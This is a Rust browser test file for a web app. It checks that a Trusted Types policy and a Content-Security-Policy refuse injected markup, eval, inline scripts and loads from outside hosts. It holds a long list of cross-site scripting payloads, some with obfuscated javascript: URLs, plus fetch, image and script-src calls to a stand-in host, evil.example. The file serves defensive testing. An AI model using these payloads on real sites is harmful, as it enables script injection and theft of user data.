//! What may become markup, run, or be asked for. The names of a corpus and the words of an address are text, whatever
//! they look like.

use std::path::Path;

use browser_tests::{Engine, dist};
use html5gum::{DefaultEmitter, StartTag, Token, Tokenizer};
use serde_json::{Value, json};

use crate::Stage;

crate::tests![
    no_strange_text_becomes_markup,
    markup_of_the_source_is_let_through,
    nothing_runs_or_leaves,
    words_in_the_address_stay_words,
    the_sources_are_named_without_scripts,
    every_page_of_the_bundle_has_a_policy_and_keeps_it,
];

/// What the policy makes of markup: empty where it refuses.
const CREATE: &str = "return a.map((markup) => trustedTypes.defaultPolicy.createHTML(markup).toString())";

fn no_strange_text_becomes_markup(stage: &Stage) {
    let page = stage.open("");
    let hostile = json!([
        "<script>alert(1)</script>",
        "<SCRIPT src=//evil.example></SCRIPT>",
        "<svg><script>alert(1)</script></svg>",
        "<img src=\"x\" onerror=\"alert(1)\">",
        "<img src=x onerror=alert(1)>",
        "<p onclick=\"alert(1)\">x</p>",
        "<p ONCLICK=\"alert(1)\">x</p>",
        "<p/onclick=\"alert(1)\">x</p>",
        "<p\nonclick=\"alert(1)\">x</p>",
        "<svg onload=\"alert(1)\"></svg>",
        "<details open ontoggle=\"alert(1)\"></details>",
        "<input autofocus onfocus=\"alert(1)\">",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"x\"></object>",
        "<embed src=\"x\">",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<style>*{background:url(https://evil.example)}</style>",
        "<p style=\"background:url(https://evil.example)\">x</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java&#115;cript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:x\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\"\\\\evil.example\">x</a>",
        "<a href=\"http://evil.example\">x</a>",
        "<a href=\"https:/evil.example\">x</a>",
        "<a href=\"blob:x\">x</a>",
        "<a href='#/'>x</a>",
        "<a href=#/>x</a>",
        "<a xlink:href=\"javascript:alert(1)\">x</a>",
        "<form action=\"https://evil.example\"><button>x</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<svg><foreignObject><p>x</p></foreignObject></svg>",
        "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"></animate></svg>",
        "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"></set></svg>",
        "<rect fill=\"url(https://evil.example#x)\"></rect>",
        "<rect fill=\"URL( https://evil.example#x)\"></rect>",
        "<video src=\"x\" onerror=\"alert(1)\"></video>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<!-- --!><img src=x onerror=alert(1)>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?>",
        "<p title=\"a\"onclick=\"alert(1)\">x</p>",
        "<p title=\"<img src=x onerror=alert(1)>\">x</p>",
        "<x-thing>x</x-thing>",
        "<p",
        "<",
    ]);
    let made = page.browser.run(CREATE, hostile.clone());
    let texts = |value: &Value| value.as_array().cloned().unwrap_or_default();
    let passed: Vec<Value> = texts(&hostile)
        .into_iter()
        .zip(texts(&made))
        .filter(|(_, made)| made != "")
        .map(|(markup, _)| markup)
        .collect();
    assert_eq!(passed, [Value::Null; 0]);
    let refused = page.browser.run("return window.__crosscheckRefused", Value::Null);
    assert_eq!(refused, json!(texts(&hostile).len()), "and each was counted");
}

/// Leptos makes nested markup that never changes through a template.
fn markup_of_the_source_is_let_through(stage: &Stage) {
    let page = stage.open("");
    let ours = json!([
        "<p>text</p>",
        "<p class=\"a b\">“a” &amp; b<br></p>",
        "<a href=\"#main\" aria-label=\"to\">x</a>",
        "<a href=\"./notice.html\">x</a>",
        "<svg viewBox=\"0 0 16 16\" aria-hidden=\"true\"><use href=\"#m-denies\"></use></svg>",
        "<rect fill=\"url(#hatch)\" x=\"1\"></rect>",
        "<input type=\"search\" disabled>",
    ]);
    let made = page.browser.run(CREATE, ours.clone());
    assert_eq!(made, ours);
    let refused = page.browser.run("return window.__crosscheckRefused", Value::Null);
    assert_eq!(refused, json!(0));
}

/// Whether the bundle has the policy that `cargo xtask build` writes. Trunk's own builds have none.
fn released(stage: &Stage) -> bool {
    let released = stage.server.file("index.html").contains("Content-Security-Policy");
    if !released {
        println!("skipped: only `cargo xtask build` writes this");
    }
    released
}

fn nothing_runs_or_leaves(stage: &Stage) {
    if !released(stage) {
        return;
    }
    let page = stage.open("");
    let tried = page.strings(
        "// Out of the reach of WebDriver, which lifts the policy while a script of its own begins.
         await new Promise((done) => setTimeout(done));
         const script = document.createElement('script');
         // Firefox runs scripts of WebDriver in a sandbox with an eval of its own.
         const page = window.wrappedJSObject ?? window;
         const tries = {
            eval: () => page.eval('1'),
            function: () => new page.Function('return 1')(),
            timeout: () => setTimeout('window.ran = 1'),
            source: () => { script.src = 'https://evil.example/x.js'; if (!script.src.includes('evil')) throw 0; },
            text: () => { script.text = 'window.ran = 1'; },
            write: () => { document.write('<script>window.ran = 1</script>'); if (!window.ran) throw 0; },
            fetch: () => fetch('https://evil.example/'),
            image: () => new Promise((done, fail) => {
                const image = new Image(); image.onload = done; image.onerror = fail; image.src = 'https://evil.example/x.png';
            }),
         };
         const worked = [];
         for (const [name, work] of Object.entries(tries)) { try { await work(); worked.push(name); } catch {} }
         return window.ran ? [...worked, 'ran'] : worked",
        Value::Null,
    );
    assert_eq!(tried, [""; 0], "all of it is refused");
    let seen = page.complaints();
    // Chromium tells of every one, Firefox of those by the policy of Trusted Types.
    let least = if Engine::chosen() == Engine::Chromium { 4 } else { 1 };
    assert!(seen.len() >= least, "each refusal is seen by the tests: {seen:?}");
}

fn words_in_the_address_stay_words(stage: &Stage) {
    let words = "<img src=x onerror=\"window.ran=1\">";
    let page = stage.open("#/explore");
    page.search(words);
    assert!(page.text().contains("<img src=x onerror="), "{}", page.text());
    assert_eq!(page.browser.run("return window.ran ?? null", Value::Null), Value::Null);
    page.sound();
}

fn the_sources_are_named_without_scripts(stage: &Stage) {
    if !released(stage) {
        return;
    }
    let html = stage.server.file("index.html");
    let (_, inside) = html
        .split_once("<noscript>")
        .expect("a page for browsers without scripts");
    for outlet in ["The Baghdad Post", "Business Insider", "Track Persia"] {
        assert!(inside.contains(outlet), "{outlet}: {inside}");
    }
    assert!(inside.contains("<a href=\"https://"), "{inside}");
}

/// Read as a parser of HTML reads it: nothing fetched from elsewhere, nothing inline that is not named by its digest.
fn every_page_of_the_bundle_has_a_policy_and_keeps_it(stage: &Stage) {
    if !released(stage) {
        return;
    }
    let mut pages = Vec::new();
    collect(&dist(), &mut pages);
    assert!(pages.len() > 100, "{pages:?}");
    for path in pages {
        let html = std::fs::read_to_string(&path).expect("a page");
        let tags = tags(&html);
        let of = |tag: &StartTag<()>, key: &str| {
            let value = tag.attributes.get(key.as_bytes());
            value.map(|value| String::from_utf8_lossy(value).into_owned())
        };
        let place = path.display();
        let is_policy = |tag: &&StartTag<()>| of(tag, "http-equiv").as_deref() == Some("Content-Security-Policy");
        let policies: Vec<String> = tags
            .iter()
            .filter(is_policy)
            .filter_map(|tag| of(tag, "content"))
            .collect();
        let [policy] = policies.as_slice() else {
            panic!("{place}: {policies:?}");
        };
        assert!(policy.starts_with("default-src 'none'; "), "{place}: {policy}");
        for part in ["base-uri 'none'", "form-action 'none'"] {
            assert!(policy.contains(part), "{place}: {policy}");
        }
        for part in ["unsafe-inline", "'unsafe-eval'", "*", "http:", "https:", "blob:"] {
            assert!(!policy.contains(part), "{place}: {policy}");
        }
        for tag in &tags {
            let name = String::from_utf8_lossy(&tag.name).into_owned();
            for (key, value) in &tag.attributes {
                let (key, value) = (String::from_utf8_lossy(key), String::from_utf8_lossy(value));
                assert!(!key.starts_with("on") && key != "style", "{place}: {name} {key}");
                let loads = key == "src" || key == "srcset" || (key == "href" && name == "link");
                let is_ours = value.starts_with("./") || value.starts_with("../") || value.starts_with("data:image/");
                assert!(!loads || is_ours, "{place}: {name} loads {value}");
            }
            assert!(
                !["base", "iframe", "object", "embed", "form"].contains(&name.as_str()),
                "{place}: {name}"
            );
            let is_inline = (name == "script" && of(tag, "src").is_none() && !is_data(of(tag, "type").as_deref()))
                || name == "style";
            assert!(
                !is_inline || policy.contains("'sha256-"),
                "{place}: {name} without a digest"
            );
        }
    }
}

fn is_data(kind: Option<&str>) -> bool {
    matches!(kind, Some("application/ld+json" | "text/plain"))
}

fn collect(folder: &Path, pages: &mut Vec<std::path::PathBuf>) {
    for entry in std::fs::read_dir(folder).expect("a folder").flatten() {
        let path = entry.path();
        if path.is_dir() {
            collect(&path, pages);
        } else if path.extension().is_some_and(|end| end == "html") {
            pages.push(path);
        }
    }
}

fn tags(html: &str) -> Vec<StartTag<()>> {
    let mut emitter = DefaultEmitter::default();
    emitter.naively_switch_states(true);
    let tokens = Tokenizer::new_with_emitter(html, emitter).flatten();
    let tags = tokens.filter_map(|token| match token {
        Token::StartTag(tag) => Some(tag),
        _ => None,
    });
    tags.collect()
}
